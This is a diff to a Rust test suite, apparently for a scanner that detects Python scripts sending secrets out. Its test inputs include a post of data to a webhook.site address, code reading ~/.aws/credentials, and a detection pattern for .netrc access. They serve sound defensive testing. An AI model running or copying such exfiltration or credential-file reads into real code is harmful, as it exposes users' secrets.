@@ -85,6 +85,8 @@ fn secrets_sent_from_a_script() {
         py("requests.post('https://abc.webhook.site/', json=summary)"),
         [S]
     );
+    // A credential sent to the service it is for.
+    assert!(py("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/credentials'))\nrequests.post('https://sts.us-east-1.amazonaws.com/', data=signed)\n").is_empty());
     // A token for its own service, sent in a header; a scanner's list of what to look for.
     assert!(py("tok = os.environ['API_TOKEN']\nrequests.post('https://api.example.com/v1', headers={'Authorization': tok}, json=body)\n").is_empty());
     assert!(py("PATTERNS = [(r'open\\(.*\\.netrc', 'Sensitive file access')]\n").is_empty());
